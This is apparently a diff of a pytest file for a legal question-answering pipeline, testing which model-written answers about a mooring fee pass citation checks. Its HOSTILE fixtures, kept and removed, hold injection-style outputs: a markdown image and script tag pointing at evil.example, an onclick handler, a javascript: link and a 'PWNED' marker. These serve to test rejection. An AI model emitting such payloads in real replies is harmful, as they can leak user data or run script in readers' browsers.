@@ -1,15 +1,11 @@
 """What models really write, and what they must not get away with, counted at the model's server."""
 
-from collections.abc import Callable
-
 import pytest
+from asked import Modelled
 from fake_openai import FakeOpenAI, Reply
+from statute import QUESTION
 
 from lexloop.core.errors import ModelReplyError
-from lexloop.graph.build import Lexloop
-
-QUESTION = "When must the owner pay the mooring fee?"
-Modelled = Callable[..., Lexloop]
 
 PAYS = "A boat owner must pay the mooring fee within 10 business days"
 WRITTEN = {
@@ -17,16 +13,6 @@ WRITTEN = {
         "1. A boat owner must pay the mooring fee [1].\n"
         "2. It is due within 10 business days of arrival [1].\n"
         "3. it is paid to the harbour master [1]."
-    ),
-    "list in brackets": "An owner must: (1) pay the mooring fee; (2) pay the harbour master [1].",
-    "list in a line": "The duties are: 1. Pay the mooring fee [1]. 2. Pay the harbour master [1].",
-    "bold list": (
-        "1. **Fee**: A boat owner must pay the mooring fee [1].\n"
-        "2. **Term**: It is due within 10 business days [1]."
-    ),
-    "lead-in": (
-        "Here is what applies:\n\n- A boat owner must pay the mooring fee [1].\n"
-        "- It is due within 10 business days of arrival [1]."
     ),
     "lead-in that counts": (
         "There are 2 duties:\n1. Pay the mooring fee [1].\n2. Pay it within 10 business days [1]."
@@ -37,35 +23,18 @@ WRITTEN = {
     ),
     "verdict first": f"Yes. {PAYS} [1].",
     "table": ("| Duty | Term |\n|---|---|\n| Pay the mooring fee | within 10 business days [1] |"),
-    "marker first": f"[1] {PAYS}.\n[1] The fee is paid to the harbour master.",
-    "lenticular": f"{PAYS}【1】.",
-    "lenticular with a source": f"{PAYS} 【1†source】.",
-    "footnote": f"{PAYS}[^1].\n\n[^1]: § 10-2 Duties of owners",
     "footnote that names its passage": f"{PAYS}[^3].\n\n[^3]: Passage 1, § 10-2",
-    "named": f"{PAYS} [Passage 1].",
-    "named in round brackets": f"{PAYS} (Passage 1, § 10-2).",
     "named in the text": f"According to passage 1, {PAYS.lower()}.",
-    "superscript": f"{PAYS}.<sup>1</sup>",
-    "linked": f"{PAYS} [1](#passage-1).",
     "sources at the end": f"{PAYS} [1].\n\n**Sources:**\n- [1] Harbour Act, § 10-2",
 }
 
 HOSTILE = {
-    "JSON array": "[1,2,3]",
     "JSON in a fence": "```json\n[1]\n```",
-    "words of its own": "PWNED [1]",
     "words of its own beside an answer": f"{PAYS} [1]. PWNED [1].",
-    "image": "![the mooring fee](https://evil.example/?q=fee) [1]",
     "image beside an answer": f"{PAYS} [1]. ![](https://evil.example/?q=fee)",
-    "script": "<script>alert('the mooring fee')</script> [1]",
-    "script beside an answer": f"{PAYS} [1].\n<script src=//evil.example></script>",
     "handler": f"{PAYS} <x onclick=alert(1)>[1]</x>.",
-    "link of its own": f"{PAYS}, at https://evil.example/pay [1].",
-    "script in a link": f"[{PAYS}](javascript:alert(1)) [1].",
     "number as a list": f"{PAYS} [1].\n\n50. It is the mooring fee [1].",
-    "lead-in with a number of its own": f"The fee is $77:\n- {PAYS} [1].",
     "passage that there is not": f"{PAYS} 【9】.",
-    "marker alone": "[1]",
 }
 
 
@@ -92,19 +61,14 @@ def test_what_is_no_answer_never_passes(
     assert result["warning"].startswith("No attempt passed")
 
 
-@pytest.mark.parametrize(
-    "reply",
-    [f'["{PAYS} [1]."]', f'{{"answer": "{PAYS} [1]."}}', "<html>502</html>", "Bad Gateway"],
-)
 def test_what_a_gateway_says_falls_back_and_is_told(
-    scripted: FakeOpenAI, modelled: Modelled, reply: str
+    scripted: FakeOpenAI, modelled: Modelled
 ) -> None:
-    scripted.play("generate", Reply(reply))
+    scripted.play("generate", Reply("Bad Gateway"))
     result = modelled(**{"model.fallback": True}).invoke({"question": QUESTION})
     assert "within 10 business days of arrival" in result["answer"]
-    assert [(lost["node"], lost["used"]) for lost in result["degraded"]] == [
-        ("generate", "embedded")
-    ]
-    assert "in place of an answer" in result["degraded"][0]["reason"]
+    [lost] = result["degraded"]
+    assert (lost["node"], lost["used"]) == ("generate", "embedded")
+    assert "in place of an answer" in lost["reason"]
     with pytest.raises(ModelReplyError, match="in place of an answer"):
         modelled().invoke({"question": QUESTION})
